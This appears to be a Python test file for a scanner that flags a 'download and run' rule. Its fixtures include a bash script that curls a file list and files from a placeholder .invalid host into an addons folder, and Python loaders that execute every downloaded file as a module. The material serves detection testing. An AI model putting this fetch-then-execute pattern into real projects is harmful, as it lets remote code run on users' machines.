"""A shell script saves downloads into ``"$here/../addons"`` and a Python script loads every file of
``Path(__file__).parent.parent / "addons"`` as a module: both name one folder of the skill, beside the
scripts' own folder, whatever each language's way of going up from an unknown folder. Hosts are
``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

FETCHER = (
    "#!/usr/bin/env bash\n"
    'here="$(cd "$(dirname "$0")" && pwd)"\n'
    'dest="$here/../addons"\n'
    'mkdir -p "$dest"\n'
    'curl -fsS https://feed.marrow-plugins.invalid/list.txt -o "$dest/list.txt"\n'
    "while read -r f; do\n"
    '  curl -fsS "https://feed.marrow-plugins.invalid/$f" -o "$dest/$f"\n'
    'done < "$dest/list.txt"\n'
)


def test_every_saved_file_loaded_with_a_source_loader_is_an_error(tmp_path: Path) -> None:
    loader = (
        "from importlib.machinery import SourceFileLoader\n"
        "from pathlib import Path\n"
        "ROOT = Path(__file__).resolve().parent.parent / 'addons'\n"
        "for item in ROOT.glob('*'):\n"
        "    SourceFileLoader(item.stem, str(item)).load_module()\n"
    )
    errors = scan_errors(tmp_path, {"bin/fetch.sh": FETCHER, "bin/load.py": loader})
    assert any(rule == "DOWNLOAD_AND_RUN" and path == "bin/load.py" for rule, path, _ in errors)


def test_every_saved_file_loaded_by_spec_in_a_helper_is_an_error(tmp_path: Path) -> None:
    loader = (
        "import importlib.util, pathlib\n"
        "BASE = pathlib.Path(__file__).parent\n"
        "def load(p):\n"
        "    spec = importlib.util.spec_from_file_location(p.stem, p)\n"
        "    m = importlib.util.module_from_spec(spec)\n"
        "    spec.loader.exec_module(m)\n"
        "for entry in sorted((BASE.parent / 'addons').iterdir()):\n"
        "    load(entry)\n"
    )
    errors = scan_errors(tmp_path, {"bin/fetch.sh": FETCHER, "bin/load.py": loader})
    assert any(rule == "DOWNLOAD_AND_RUN" and path == "bin/load.py" for rule, path, _ in errors)


def test_saved_files_only_read_as_data_are_quiet(tmp_path: Path) -> None:
    reader = (
        "import json\n"
        "from pathlib import Path\n"
        "ROOT = Path(__file__).resolve().parent.parent / 'addons'\n"
        "for item in ROOT.glob('*.json'):\n"
        "    print(json.loads(item.read_text()).get('name'))\n"
    )
    assert not scan_errors(tmp_path, {"bin/fetch.sh": FETCHER, "bin/read.py": reader})
